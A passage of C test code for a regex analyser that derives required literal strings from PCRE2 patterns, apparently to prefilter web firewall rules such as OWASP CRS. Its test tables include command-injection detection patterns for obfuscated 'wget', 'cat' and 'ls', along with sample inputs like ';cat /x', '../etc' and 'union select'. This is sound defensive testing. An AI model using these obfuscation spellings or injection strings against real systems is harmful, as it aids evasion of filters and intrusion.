/*
 * rx_factors_test.c — necessary literal factors of PCRE2 patterns.
 *
 * The property under test: whenever PCRE2 (DOTALL | MULTILINE, as op_rx.c
 * compiles) matches a subject, the subject contains one of the pattern's
 * factors, ignoring ASCII case. PCRE2 is the oracle throughout:
 *   hand cases   what the analyser answers on small patterns, and what it
 *                must refuse;
 *   hostile      deep nesting, huge repetitions and alternations: bounded;
 *   random       random patterns built from a small grammar, with strings
 *                sampled from the same grammar and random noise;
 *   CRS v4       every @rx pattern of third_party/owasp-crs, against the
 *                CRS regression payloads (decoded and split like ARGS) and
 *                strings sampled from each pattern.
 * Every subject PCRE2 matches is also "defused": its factor occurrences
 * are broken (a byte deleted or replaced) until none is left; PCRE2 must
 * then not match. These near misses are where a wrong factor would show.
 */
#include "test_util.h"

#include <ctype.h>
#include <dirent.h>
#include <stdbool.h>
#include <strings.h>
#include <time.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "rx_factors.h"
#include "seclang.h"

#ifndef RP_SOURCE_DIR
#define RP_SOURCE_DIR "."
#endif

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* xorshift64*: deterministic, so a failure reproduces. */
static uint64_t rng_state = 0x9e3779b97f4a7c15ull;

static uint32_t rnd(uint32_t n)
{
    rng_state ^= rng_state >> 12;
    rng_state ^= rng_state << 25;
    rng_state ^= rng_state >> 27;
    return n ? (uint32_t)((rng_state * 0x2545f4914f6cdd1dull) >> 33) % n : 0;
}

/* ---------------------------------------------------------------- buffers */

typedef struct {
    char *p;
    size_t n, cap;
} buf_t;

static void buf_put(buf_t *b, const void *s, size_t n)
{
    if (b->n + n + 1 > b->cap) {
        b->cap = (b->n + n + 1) * 2;
        b->p = realloc(b->p, b->cap);
        assert_non_null(b->p);
    }
    memcpy(b->p + b->n, s, n);
    b->n += n;
    b->p[b->n] = '\0';
}

static void buf_c(buf_t *b, int c)
{
    char ch = (char)c;
    buf_put(b, &ch, 1);
}

static void buf_s(buf_t *b, const char *s)
{
    buf_put(b, s, strlen(s));
}

/* ------------------------------------------------------- PCRE2 and checks */

typedef struct {
    pcre2_code *code;
    pcre2_match_data *md;
    pcre2_match_context *mctx;
} rx_t;

static bool rx_compile(rx_t *rx, const char *re, size_t len, bool jit)
{
    int ec;
    PCRE2_SIZE eo;
    rx->code = pcre2_compile((PCRE2_SPTR)re, len, PCRE2_DOTALL | PCRE2_MULTILINE, &ec, &eo, NULL);
    if (!rx->code)
        return false;
    if (jit)
        pcre2_jit_compile(rx->code, PCRE2_JIT_COMPLETE);
    rx->md = pcre2_match_data_create_from_pattern(rx->code, NULL);
    rx->mctx = pcre2_match_context_create(NULL);
    pcre2_set_match_limit(rx->mctx, 100000);
    pcre2_set_depth_limit(rx->mctx, 10000);
    return true;
}

static void rx_free(rx_t *rx)
{
    pcre2_match_data_free(rx->md);
    pcre2_match_context_free(rx->mctx);
    pcre2_code_free(rx->code);
}

/* 1 match, 0 no match, -1 a limit (no verdict). */
static int rx_match(const rx_t *rx, const char *s, size_t n)
{
    int rc = pcre2_match(rx->code, (PCRE2_SPTR)s, n, 0, 0, rx->md, rx->mctx);
    if (rc >= 0)
        return 1;
    return rc == PCRE2_ERROR_NOMATCH ? 0 : -1;
}

/* A pattern's factors indexed by first byte, to find occurrences fast. */
typedef struct {
    const rp_factors_t *f;
    size_t *by_first[256]; /* factor indexes, SIZE_MAX-terminated */
    size_t maxlen;
} finder_t;

static void finder_init(finder_t *fd, const rp_factors_t *f)
{
    memset(fd, 0, sizeof(*fd));
    fd->f = f;
    size_t cnt[256] = {0};
    for (size_t i = 0; i < f->n; i++) {
        cnt[(unsigned char)f->s[i][0]]++;
        fd->maxlen = f->len[i] > fd->maxlen ? f->len[i] : fd->maxlen;
    }
    for (int c = 0; c < 256; c++) {
        fd->by_first[c] = malloc((cnt[c] + 1) * sizeof(size_t));
        assert_non_null(fd->by_first[c]);
        cnt[c] = 0;
    }
    for (size_t i = 0; i < f->n; i++) {
        unsigned c = (unsigned char)f->s[i][0];
        fd->by_first[c][cnt[c]++] = i;
    }
    for (int c = 0; c < 256; c++)
        fd->by_first[c][cnt[c]] = SIZE_MAX;
}

static void finder_free(finder_t *fd)
{
    for (int c = 0; c < 256; c++)
        free(fd->by_first[c]);
}

/* The factor occurring at lc[i] (lc lower-cased), or SIZE_MAX. */
static size_t factor_at(const finder_t *fd, const char *lc, size_t n, size_t i)
{
    for (const size_t *k = fd->by_first[(unsigned char)lc[i]]; *k != SIZE_MAX; k++) {
        size_t fl = fd->f->len[*k];
        if (i + fl <= n && memcmp(lc + i, fd->f->s[*k], fl) == 0)
            return *k;
    }
    return SIZE_MAX;
}

static void lower_copy(buf_t *lc, const char *s, size_t n)
{
    lc->n = 0;
    buf_put(lc, s, n);
    for (size_t i = 0; i < n; i++)
        lc->p[i] = (char)tolower((unsigned char)lc->p[i]);
}

static bool has_factor(const finder_t *fd, const char *s, size_t n, buf_t *lc)
{
    lower_copy(lc, s, n);
    for (size_t i = 0; i < n; i++)
        if (factor_at(fd, lc->p, n, i) != SIZE_MAX)
            return true;
    return false;
}

typedef struct {
    size_t subjects, matches, defused, limits, violations;
} tally_t;

static void violation(tally_t *t, const char *what, const char *re, const char *s, size_t n)
{
    t->violations++;
    if (t->violations <= 10) {
        print_message("SOUNDNESS VIOLATION (%s): pattern %s\n  subject (%zu bytes): ", what, re, n);
        for (size_t i = 0; i < n && i < 300; i++)
            print_message(isprint((unsigned char)s[i]) ? "%c" : "\\x%02x", (unsigned char)s[i]);
        print_message("\n");
    }
}

/* Break every factor occurrence of s: mode 0 deletes its first byte, 1
 * its last, 2 replaces its middle byte by a control byte. After a change
 * the scan resumes where a new occurrence could start. false when it does
 * not converge (replacement can create occurrences). */
static bool defuse(const finder_t *fd, const char *s, size_t n, int mode, buf_t *out, buf_t *lc)
{
    out->n = 0;
    buf_put(out, s, n);
    lower_copy(lc, s, n);
    size_t steps = 0;
    for (size_t i = 0; i < out->n;) {
        size_t k = factor_at(fd, lc->p, out->n, i);
        if (k == SIZE_MAX) {
            i++;
            continue;
        }
        if (++steps > 4 * n + 8)
            return false;
        size_t fl = fd->f->len[k];
        if (mode == 0 || mode == 1) {
            size_t del = i + (mode == 0 ? 0 : fl - 1);
            memmove(out->p + del, out->p + del + 1, out->n - del - 1);
            memmove(lc->p + del, lc->p + del + 1, out->n - del - 1);
            out->n--;
        } else {
            char r = (char)(out->p[i + fl / 2] == 1 ? 2 : 1);
            out->p[i + fl / 2] = r;
            lc->p[i + fl / 2] = r;
        }
        i = i > fd->maxlen ? i - fd->maxlen : 0;
    }
    return true;
}

/* The property on one subject, and on its defused near misses. */
static void check_subject(const rx_t *rx, const char *re, const finder_t *fd, const char *s,
                          size_t n, tally_t *t)
{
    t->subjects++;
    int m = rx_match(rx, s, n);
    if (m < 0) {
        t->limits++;
        return;
    }
    if (m == 0)
        return;
    t->matches++;
    buf_t d = {0}, lc = {0};
    if (!has_factor(fd, s, n, &lc)) {
        violation(t, "match without a factor", re, s, n);
    } else {
        for (int mode = 0; mode < 3; mode++) {
            if (!defuse(fd, s, n, mode, &d, &lc))
                continue;
            int dm = rx_match(rx, d.p ? d.p : "", d.n);
            t->defused++;
            if (dm < 0)
                t->limits++;
            else if (dm == 1)
                violation(t, "defused subject still matches", re, d.p, d.n);
        }
    }
    free(d.p);
    free(lc.p);
}

/* ----------------------------------------------------- factors under deletion
 * rp_rx_factors_deleting's property: for every match m (the substring PCRE2
 * consumed), N(m) — m without the deleted bytes — contains a factor. Each
 * match of a subject is checked, and the near misses are N(s) defused: a
 * string without deleted bytes whose N (itself) holds no factor, so PCRE2
 * must not match it. */

static const char DEL1[] = "\\'\""; /* backslash, single and double quote */
static const char DEL2[] = "\\'\"^";
static const char DEL3[] = "\\'\"^)["; /* all bytes of CRS 932's filler classes */

/* N(s): s without the bytes of del. */
static void del_apply(buf_t *out, const char *s, size_t n, const char *del)
{
    out->n = 0;
    buf_put(out, "", 0);
    for (size_t i = 0; i < n; i++)
        if (!s[i] || !strchr(del, s[i]))
            buf_c(out, s[i]);
}

static bool factor_has_deleted(const rp_factors_t *f, const char *del)
{
    for (size_t i = 0; i < f->n; i++)
        for (size_t k = 0; k < f->len[i]; k++) {
            char c = f->s[i][k];
            if (c && (strchr(del, c) || strchr(del, toupper((unsigned char)c))))
                return true;
        }
    return false;
}

static void check_subject_del(const rx_t *rx, const char *re, const finder_t *fd, const char *del,
                              const char *s, size_t n, tally_t *t)
{
    t->subjects++;
    /* \K moves the reported start after bytes the match consumed: then m
     * is taken from where the search started (a longer m, a weaker check). */
    bool bsk = strstr(re, "\\K") != NULL;
    buf_t nm = {0}, lc = {0}, d = {0};
    size_t off = 0;
    int found = 0;
    while (off <= n && found < 16) {
        int rc = pcre2_match(rx->code, (PCRE2_SPTR)s, n, off, 0, rx->md, rx->mctx);
        if (rc == PCRE2_ERROR_NOMATCH)
            break;
        if (rc < 0) {
            t->limits++;
            break;
        }
        const PCRE2_SIZE *ov = pcre2_get_ovector_pointer(rx->md);
        size_t b = ov[1], a = bsk ? off : ov[0] < b ? ov[0] : b;
        found++;
        t->matches++;
        del_apply(&nm, s + a, b - a, del);
        if (!has_factor(fd, nm.p, nm.n, &lc))
            violation(t, "N(match) without a factor", re, s + a, b - a);
        off = b > ov[0] ? b : ov[0] + 1;
    }
    if (found) {
        del_apply(&nm, s, n, del);
        for (int mode = 0; mode < 3; mode++) {
            if (!defuse(fd, nm.p, nm.n, mode, &d, &lc))
                continue;
            int dm = rx_match(rx, d.p ? d.p : "", d.n);
            t->defused++;
            if (dm < 0)
                t->limits++;
            else if (dm == 1)
                violation(t, "defused N(subject) still matches", re, d.p, d.n);
        }
    }
    free(nm.p);
    free(lc.p);
    free(d.p);
}

/* ------------------------------------------------------------- hand cases */

typedef struct {
    const char *re;
    const char *want[8]; /* the factor set; {NULL}: -1 expected */
    const char *alt[8];  /* another acceptable answer, or {NULL} */
} hand_t;

static const hand_t hand[] = {
    {"abc", {"abc"}, {NULL}},
    {"(?i)union\\s+select", {"select"}, {"union"}},
    {"UNION", {"union"}, {NULL}},
    {"a|b", {"a", "b"}, {NULL}},
    {"a*", {NULL}, {NULL}},
    {"(?:foo|bar)baz", {"foobaz", "barbaz"}, {"baz"}},
    {"x+", {"x"}, {NULL}},
    {"[ab]c", {"ac", "bc"}, {NULL}},
    {"^$", {NULL}, {NULL}},
    {".*", {NULL}, {NULL}},
    {"", {NULL}, {NULL}},
    {"a|", {NULL}, {NULL}},
    {"a|b*", {NULL}, {NULL}},
    {"(?:a|)b", {"b"}, {NULL}}, /* {ab, b}, and b is in ab */
    {"https?://", {"http://", "https://"}, {NULL}},
    {"ab{2,3}c", {"abbc", "abbbc"}, {NULL}},
    {"a{0}b", {"b"}, {NULL}},
    {"(?:abc){2,}", {"abcabc"}, {NULL}},
    {"(?:\\.\\./)+etc", {"../etc"}, {NULL}},
    {"a++b", {"ab"}, {NULL}},
    {"a+?b", {"ab"}, {NULL}},
    {"ab*", {"a"}, {NULL}},
    /* what precedes or follows a piece meets its prefixes or suffixes */
    {"a(?:b\\d|c\\s)", {"ab", "ac"}, {NULL}},
    {"(?:a.*b|c)d", {"bd", "cd"}, {NULL}},
    {"(?:ab|cd)+ef", {"abef", "cdef"}, {NULL}},
    {"x(?:(?:y|z)\\d*)+", {"xy", "xz"}, {NULL}},
    {"\\bselect\\b", {"select"}, {NULL}},
    {"^(?i)admin$", {"admin"}, {NULL}},
    {"[A-C]x", {"ax", "bx", "cx"}, {NULL}},
    {"[^\\x00-\\x60\\x62-\\xff]z", {"az"}, {NULL}},
    {"(?i)[^\\x00-\\x40\\x42-\\x60\\x62-\\xff]z", {"az"}, {NULL}},
    {"[\\d]", {NULL}, {NULL}},
    {"[abcde]x", {"x"}, {NULL}},
    {"\\x41\\x{42}\\o{103}\\cD", {"abc\x04"}, {NULL}},
    {"\\t\\n\\r\\f\\e\\a", {"\t\n\r\f\x1b\a"}, {NULL}},
    {"a\\.b\\*c", {"a.b*c"}, {NULL}},
    {"[\\]\\-\\\\]x", {"]x", "-x", "\\x"}, {NULL}},
    {"[]a]x", {"]x", "ax"}, {NULL}},
    {"[-a]x", {"-x", "ax"}, {NULL}},
    {"[a-]x", {"-x", "ax"}, {NULL}},
    {"[[:digit:]]", {NULL}, {NULL}},
    {"[^\\H\\t]", {" ", "\xa0"}, {NULL}},
    {"[^\\V\\n\\r\\x0b]", {"\x0c", "\x85"}, {NULL}},
    {"[^\\D1-9]x", {"x"}, {NULL}}, /* not {0x}: \d may hold bytes >= 0x80 in a locale */
    {"[^[:^alpha:][:upper:]b-z]", {NULL}, {NULL}}, /* likewise: {a} in ASCII */
    {"\\0123", {"\n3"}, {NULL}},
    {"[\\1234]x", {"sx", "4x"}, {NULL}},
    {"\\cz\\c[\\c;", {"\x1a\x1b{"}, {NULL}},
    {"\\h", {"\t", " ", "\xa0"}, {NULL}},
    {"\\xe9t\\xe9", {"\xe9t\xe9"}, {NULL}},
    {"(?i)\\xe9t\\xe9", {"t"}, {NULL}}, /* case of bytes >= 0x80: not assumed */
    {"abcdefghijklmnopqrstuvwxyz0123456789", {"abcdefghijklmnopqrstuvwxyz012345"}, {NULL}},
    /* zero-width items */
    {"foo(?=bar)", {"foo"}, {NULL}},
    {"(?<=a)bc", {"bc"}, {NULL}},
    {"(?<!x)y(?!z)", {"y"}, {NULL}},
    {"foo(?!bar)baz", {"foobaz"}, {NULL}},
    {"(?=abc)", {NULL}, {NULL}},
    {"a\\Kb", {"ab"}, {NULL}},
    {"\\Aab\\z", {"ab"}, {NULL}},
    {"a\\Bb\\Z", {"ab"}, {NULL}},
    /* \Q...\E, comments, option settings */
    {"\\Qa.b|c)\\E", {"a.b|c)"}, {NULL}},
    {"\\Qab\\E+", {"ab"}, {NULL}},
    {"\\Qab", {"ab"}, {NULL}},
    {"a(?#comment)b", {"ab"}, {NULL}},
    {"a(?i)b(?-i)c", {"abc"}, {NULL}},
    {"(?i:ab)c", {"abc"}, {NULL}},
    {"(?s)a.b(?m)^", {"a"}, {"b"}},
    {"(?|(a)|(b))c", {"ac", "bc"}, {NULL}},
    {"(?>ab|a)c", {"abc", "ac"}, {"c"}},
    {"(?<n>ab)(?'m'cd)(?P<o>ef)", {"abcdef"}, {NULL}},
    /* backreferences, calls: nothing known from them */
    {"(a)\\1", {"a"}, {NULL}},
    {"(abc)\\1+", {"abc"}, {NULL}},
    {"(?<n>ab)\\k<n>", {"ab"}, {NULL}},
    {"(?P<n>ab)(?P=n)x", {"ab"}, {"x"}},
    {"(ab)\\g{1}\\g{-1}\\g1", {"ab"}, {NULL}},
    {"(a|b(?1))", {"a", "b"}, {NULL}},
    {"(ab)(?1)", {"ab"}, {NULL}},
    {"\\p{L}abc\\P{N}", {"abc"}, {NULL}},
    {"\\d\\D\\w\\W\\s\\S\\v\\V\\H\\R\\N\\X.", {NULL}, {NULL}},
    /* refused syntax */
    {"(?x)a b", {NULL}, {NULL}},
    {"(?x:a) b", {NULL}, {NULL}},
    {"(?(1)a|b)", {NULL}, {NULL}},
    {"a(?C1)b", {NULL}, {NULL}},
    {"(*ACCEPT)a", {NULL}, {NULL}},
    {"(*UTF)abc", {NULL}, {NULL}},
    {"a(*SKIP)b", {NULL}, {NULL}},
    {"\\Labc", {NULL}, {NULL}},
    {"\\uabc", {NULL}, {NULL}},
    {"[abc", {NULL}, {NULL}},
    {"(abc", {NULL}, {NULL}},
    {"abc)", {NULL}, {NULL}},
    {"*abc", {NULL}, {NULL}},
    {"abc\\", {NULL}, {NULL}},
    {"a{,3}b", {NULL}, {NULL}},  /* a quantifier from PCRE2 10.43 on */
    {"a{ 2 }b", {NULL}, {NULL}}, /* likewise */
    {"a{2}{3}", {NULL}, {NULL}},
    {"a**", {NULL}, {NULL}},
    {"a(?i)+", {NULL}, {NULL}},
    {"a(?#c)+b", {NULL}, {NULL}},
    {"a\\Q\\E+b", {NULL}, {NULL}},
    {"\\x{100}", {NULL}, {NULL}},
    {"\\N{U+41}", {NULL}, {NULL}},
    {"[[:foo:]]", {NULL}, {NULL}},
    {"[[.a.]]", {NULL}, {NULL}},
    {"[\\d-z]", {NULL}, {NULL}},
    {"[z-a]", {NULL}, {NULL}},
    {"[\\Qa\\E]", {NULL}, {NULL}},
    /* '{' that is not a quantifier is a literal */
    {"a{b", {"a{b"}, {NULL}},
    {"a{}", {"a{}"}, {NULL}},
    {"x{2}", {"xx"}, {NULL}},
    {"\\{\\}", {"{}"}, {NULL}},
};

static size_t count(const char *const *v)
{
    size_t n = 0;
    while (n < 8 && v[n])
        n++;
    return n;
}

static bool same_set(const rp_factors_t *f, const char *const *want)
{
    size_t n = count(want);
    if (n != f->n)
        return false;
    for (size_t i = 0; i < n; i++) {
        size_t wl = strlen(want[i]);
        bool found = false;
        for (size_t j = 0; j < f->n && !found; j++)
            found = f->len[j] == wl && memcmp(f->s[j], want[i], wl) == 0;
        if (!found)
            return false;
    }
    return true;
}

static void print_set(const rp_factors_t *f)
{
    print_message("{");
    for (size_t i = 0; i < f->n; i++) {
        print_message(i ? ", \"" : "\"");
        for (size_t k = 0; k < f->len[i]; k++)
            print_message(isprint((unsigned char)f->s[i][k]) ? "%c" : "\\x%02x",
                          (unsigned char)f->s[i][k]);
        print_message("\"");
    }
    print_message("}\n");
}

static void test_hand(void **state)
{
    (void)state;
    size_t bad = 0;
    for (size_t i = 0; i < sizeof(hand) / sizeof(hand[0]); i++) {
        const hand_t *h = &hand[i];
        rp_factors_t f;
        int rc = rp_rx_factors(h->re, strlen(h->re), &f);
        bool ok = h->want[0] == NULL
                      ? rc == -1 && f.n == 0
                      : rc == 0 && (same_set(&f, h->want) || (h->alt[0] && same_set(&f, h->alt)));
        if (!ok) {
            print_message("hand case \"%s\": rc %d, ", h->re, rc);
            print_set(&f);
            bad++;
        }
        /* The answer must also hold on a few subjects. */
        rx_t rx;
        if (rc == 0 && rx_compile(&rx, h->re, strlen(h->re), false)) {
            static const char *subjects[] = {"abc",           "xxabcxx", "ABC",  "foobaz",
                                             "union  select", "http://", "abbc", "a.b|c)",
                                             "../../etc",     "",        "ab",   "aab"};
            tally_t t = {0};
            finder_t fd;
            finder_init(&fd, &f);
            for (size_t k = 0; k < sizeof(subjects) / sizeof(subjects[0]); k++)
                check_subject(&rx, h->re, &fd, subjects[k], strlen(subjects[k]), &t);
            finder_free(&fd);
            bad += t.violations;
            rx_free(&rx);
        }
        rp_factors_free(&f);
    }
    /* A NUL inside the pattern is a byte like any other. */
    rp_factors_t f;
    assert_int_equal(rp_rx_factors("a\0b", 3, &f), 0);
    assert_int_equal(f.n, 1);
    assert_int_equal(f.len[0], 3);
    assert_memory_equal(f.s[0], "a\0b", 3);
    rp_factors_free(&f);
    rp_factors_free(&f); /* twice is harmless */
    assert_int_equal(rp_rx_factors(NULL, 0, &f), -1);
    assert_int_equal(bad, 0);
}

/* Hand cases under deletion: the pattern, the deleted bytes, the expected
 * set ({NULL}: -1), another acceptable one, and subjects PCRE2 must match
 * (each match's N(m) is checked against the answer). */
typedef struct {
    const char *re, *del;
    const char *want[8];
    const char *alt[8];
    const char *match[4];
} hand_del_t;

static const hand_del_t hand_del[] = {
    /* CRS 932 spellings: fillers between letters vanish */
    {"l[\\\\'\"]*s", DEL1, {"ls"}, {NULL}, {"ls", "l'\"s", "l\\\\s", "xl''\\sx"}},
    {"w[\\\\'\"]*g[\\\\'\"]*e[\\\\'\"]*t", DEL1, {"wget"}, {NULL}, {"w'g\"e\\t", "wget"}},
    {"(?i)\\bc[\\\\'\"]*a[\\\\'\"]*t\\b", DEL1, {"cat"}, {NULL}, {"C'a\"T", ";cat /x"}},
    {"a'b", DEL1, {"ab"}, {NULL}, {"a'b"}},
    {"a\\x27b\\x22c\\\\d\\047e", DEL1, {"abcde"}, {NULL}, {"a'b\"c\\d'e"}},
    {"\\Qa'b\\E", DEL1, {"ab"}, {NULL}, {"a'b"}},
    {"(?i)C'A\"T", DEL1, {"cat"}, {NULL}, {"c'a\"t"}},
    {"'(?:or|and)'", DEL1, {"or", "and"}, {NULL}, {"'or'", "x'and'"}},
    {"a[\\\\'\"]?b", DEL1, {"ab"}, {NULL}, {"ab", "a\"b"}},
    {"a[\\\\'\"]{3}b", DEL1, {"ab"}, {NULL}, {"a'''b"}},
    {"(?:a'){2,}", DEL1, {"aa"}, {NULL}, {"a'a'", "a'a'a'"}},
    /* CRS 932's Unix filler, and its "$..." expansion, which deletion
     * cannot remove: letters are all that is left around it */
    {"(?i)b[\"'\\)\\[\\x5c]*\\x5c?u[\"'\\)\\[\\x5c]*\\x5c?s", DEL3, {"bus"}, {NULL}, {"B)[u\\'s"}},
    {"b[\"'\\)\\[\\x5c]*(?:\\$[a-z]*)?u", DEL3, {"b"}, {"u"}, {"b'u", "b$xu"}},
    {"a'*", DEL1, {"a"}, {NULL}, {"a''"}},
    /* a class with deleted members: "a" or nothing */
    {"[a']b", DEL1, {"b"}, {"ab", "b"}, {"ab", "'b"}},
    {"(?:a|')b", DEL1, {"b"}, {NULL}, {"ab", "'b"}},
    {"[\\\\'\"abcd]x", DEL1, {"x"}, {NULL}, {"'x", "dx"}},
    {"a[^']b", DEL1, {"a"}, {"b"}, {"axb"}},
    {"a\\Wb", DEL1, {"a"}, {"b"}, {"a'b", "a b"}},
    /* nothing left */
    {"[\"']", DEL1, {NULL}, {NULL}, {"'"}},
    {"'+", DEL1, {NULL}, {NULL}, {"''"}},
    {"\\Q'\"\\E", DEL1, {NULL}, {NULL}, {"'\""}},
    {"\\\\", DEL1, {NULL}, {NULL}, {"\\"}},
    {"'|a", DEL1, {NULL}, {NULL}, {"'", "a"}},
    /* the second set */
    {"a\\^b", DEL1, {"a^b"}, {NULL}, {"a^b"}},
    {"a\\^b", DEL2, {"ab"}, {NULL}, {"a^b"}},
    {"c[\\\\'\"^]*a[\\\\'\"^]*t", DEL2, {"cat"}, {NULL}, {"c^a't"}},
    /* \K: the consumed match still holds the factor */
    {"x\\Ky'z", DEL1, {"xyz"}, {NULL}, {"xy'z"}},
    /* deleted letters: a letter whose other case is deleted is unknown */
    {"abc", "b", {"ac"}, {NULL}, {"abc"}},
    {"(?i)abc", "b", {"a"}, {"c"}, {"aBc", "abc"}},
    {"ABC", "b", {"a"}, {"c"}, {"ABC"}},
    {"(?i)a[b']c", "B'", {"a"}, {"c"}, {"abc", "a'c"}},
};

static void test_hand_deleting(void **state)
{
    (void)state;
    size_t bad = 0;
    for (size_t i = 0; i < sizeof(hand_del) / sizeof(hand_del[0]); i++) {
        const hand_del_t *h = &hand_del[i];
        rp_factors_t f;
        int rc = rp_rx_factors_deleting(h->re, strlen(h->re), h->del, strlen(h->del), &f);
        bool ok = h->want[0] == NULL
                      ? rc == -1 && f.n == 0
                      : rc == 0 && (same_set(&f, h->want) || (h->alt[0] && same_set(&f, h->alt)));
        if (!ok || factor_has_deleted(&f, h->del)) {
            print_message("deletion hand case \"%s\" without \"%s\": rc %d, ", h->re, h->del, rc);
            print_set(&f);
            bad++;
        }
        rx_t rx;
        assert_true(rx_compile(&rx, h->re, strlen(h->re), false));
        for (size_t k = 0; k < 4 && h->match[k]; k++) {
            if (rx_match(&rx, h->match[k], strlen(h->match[k])) != 1) {
                print_message("deletion hand case \"%s\": PCRE2 does not match \"%s\"\n", h->re,
                              h->match[k]);
                bad++;
            }
        }
        if (rc == 0) {
            static const char *subjects[] = {"abc", "a'b'c", "x\"y", "l\\s", "'", "", "ab", "a'a'"};
            tally_t t = {0};
            finder_t fd;
            finder_init(&fd, &f);
            for (size_t k = 0; k < 4 && h->match[k]; k++)
                check_subject_del(&rx, h->re, &fd, h->del, h->match[k], strlen(h->match[k]), &t);
            for (size_t k = 0; k < sizeof(subjects) / sizeof(subjects[0]); k++)
                check_subject_del(&rx, h->re, &fd, h->del, subjects[k], strlen(subjects[k]), &t);
            finder_free(&fd);
            bad += t.violations;
        }
        rx_free(&rx);
        rp_factors_free(&f);
    }
    /* no deleted bytes: rp_rx_factors */
    rp_factors_t f;
    assert_int_equal(rp_rx_factors_deleting("a'b", 3, "", 0, &f), 0);
    assert_int_equal(f.n, 1);
    assert_memory_equal(f.s[0], "a'b", 3);
    rp_factors_free(&f);
    assert_int_equal(rp_rx_factors_deleting("a'b", 3, NULL, 0, &f), 0);
    rp_factors_free(&f);
    assert_int_equal(rp_rx_factors_deleting("a'b", 3, NULL, 1, &f), -1);
    assert_int_equal(rp_rx_factors_deleting(NULL, 0, DEL1, 3, &f), -1);
    /* a NUL can be deleted too */
    assert_int_equal(rp_rx_factors_deleting("a\0b", 3, "\0", 1, &f), 0);
    assert_int_equal(f.n, 1);
    assert_memory_equal(f.s[0], "ab", 2);
    rp_factors_free(&f);
    assert_int_equal(bad, 0);
}

/* --------------------------------------------------------------- hostile */

static void test_hostile(void **state)
{
    (void)state;
    rp_factors_t f;
    buf_t b = {0};
    double t0 = now_s();

    /* nesting: 200 levels are fine, 300 are refused */
    for (int depth = 200; depth <= 300; depth += 100) {
        b.n = 0;
        for (int i = 0; i < depth; i++)
            buf_s(&b, "(?:");
        buf_s(&b, "abc");
        for (int i = 0; i < depth; i++)
            buf_s(&b, ")");
        int rc = rp_rx_factors(b.p, b.n, &f);
        assert_int_equal(rc, depth == 200 ? 0 : -1);
        rp_factors_free(&f);
    }
    /* 100 000 unclosed groups: refused, no stack overflow */
    b.n = 0;
    for (int i = 0; i < 100000; i++)
        buf_s(&b, "(");
    assert_int_equal(rp_rx_factors(b.p, b.n, &f), -1);

    /* big repetitions of small sets */
    static const char *reps[] = {
        "(?:a|b|c|d){65535}",   "(?:(?:(?:ab){65535}){65535}){65535}",
        "(?:(?:a?){65535})x",   "(?:ab|cd|ef|gh)(?:ab|cd|ef|gh)(?:ab|cd|ef|gh)(?:ab|cd){30}",
        "[ab][cd][ef][gh][ij]", "(?:a|b|c|d|e|f|g|h){1,65535}y",
    };
    for (size_t i = 0; i < sizeof(reps) / sizeof(reps[0]); i++) {
        int rc = rp_rx_factors(reps[i], strlen(reps[i]), &f);
        rx_t rx;
        if (rc == 0 && rx_compile(&rx, reps[i], strlen(reps[i]), false)) {
            tally_t t = {0};
            finder_t fd;
            finder_init(&fd, &f);
            check_subject(&rx, reps[i], &fd, "abababcdcdcdacegiy", 18, &t);
            check_subject(&rx, reps[i], &fd, "xyaaaaaaaaaaaax", 15, &t);
            finder_free(&fd);
            assert_int_equal(t.violations, 0);
            rx_free(&rx);
        }
        rp_factors_free(&f);
    }

    /* a 20 000-word alternation, and one of long words */
    b.n = 0;
    for (int i = 0; i < 20000; i++) {
        char w[32];
        snprintf(w, sizeof(w), "%sw%dq", i ? "|" : "", i);
        buf_s(&b, w);
    }
    int rc = rp_rx_factors(b.p, b.n, &f);
    assert_int_equal(rc, -1); /* more factors than a prefilter should carry */
    rp_factors_free(&f);
    b.n = 0;
    for (int i = 0; i < 1000; i++) {
        char w[64];
        snprintf(w, sizeof(w), "%s(?:word%d|other%d)[xy]", i ? "|" : "", i % 500, i);
        buf_s(&b, w);
    }
    rc = rp_rx_factors(b.p, b.n, &f);
    assert_int_equal(rc, 0);
    print_message("1000-branch alternation: %zu factors\n", f.n);
    rp_factors_free(&f);

    /* 256 KiB of products, then over the size limit */
    b.n = 0;
    while (b.n < 256 * 1024 - 16)
        buf_s(&b, "(?:a|b)(?:c|d)?");
    assert_int_equal(rp_rx_factors(b.p, b.n, &f), 0);
    rp_factors_free(&f);
    while (b.n <= 256 * 1024)
        buf_c(&b, 'x');
    assert_int_equal(rp_rx_factors(b.p, b.n, &f), -1);

    /* random bytes and random PCRE2-ish tokens: no crash, no leak */
    static const char *tokens[] = {"(",   ")",    "(?:",       "(?i)", "|",     "*",   "+",
                                   "?",   "{2}",  "{1,3}",     "[",    "]",     "^",   "-",
                                   "\\",  "\\d",  "a",         "b",    "\\x41", "\\Q", "\\E",
                                   "(?=", "(?<!", "{",         "}",    ".",     "$",   "[^",
                                   "\\1", "(?#",  "[:alpha:]", ","};
    for (int i = 0; i < 20000; i++) {
        b.n = 0;
        int n = (int)rnd(24);
        for (int k = 0; k < n; k++) {
            if (rnd(4) == 0)
                buf_c(&b, (int)rnd(256));
            else
                buf_s(&b, tokens[rnd(sizeof(tokens) / sizeof(tokens[0]))]);
        }
        rc = rp_rx_factors(b.p, b.n, &f);
        if (rc == 0) {
            assert_true(f.n > 0);
            for (size_t k = 0; k < f.n; k++)
                assert_true(f.len[k] > 0);
        }
        rp_factors_free(&f);
        rc = rp_rx_factors_deleting(b.p, b.n, DEL2, strlen(DEL2), &f);
        if (rc == 0) {
            assert_true(f.n > 0);
            for (size_t k = 0; k < f.n; k++)
                assert_true(f.len[k] > 0);
            assert_false(factor_has_deleted(&f, DEL2));
        }
        rp_factors_free(&f);
    }
    free(b.p);
    double dt = now_s() - t0;
    print_message("hostile patterns: %.2f s\n", dt);
    assert_true(dt < 30);
}

/* ---------------------------------------------------------- random grammar */

/* A random pattern as a tree, so strings can be sampled from it without
 * reading the pattern text back (that is the analyser's job). */
typedef enum { N_CHAR, N_SET, N_CAT, N_ALT, N_REP, N_EMPTY } nkind_t;

typedef struct node node_t;
struct node {
    nkind_t kind;
    unsigned char c; /* N_CHAR */
    uint64_t set[4]; /* N_SET */
    node_t **kid;    /* N_CAT, N_ALT, N_REP (kid[0]) */
    int nkid;
    unsigned min, max; /* N_REP; max 0xffff: unbounded */
};

static node_t *node_new(nkind_t k)
{
    node_t *n = calloc(1, sizeof(*n));
    assert_non_null(n);
    n->kind = k;
    return n;
}

static void node_add(node_t *n, node_t *kid)
{
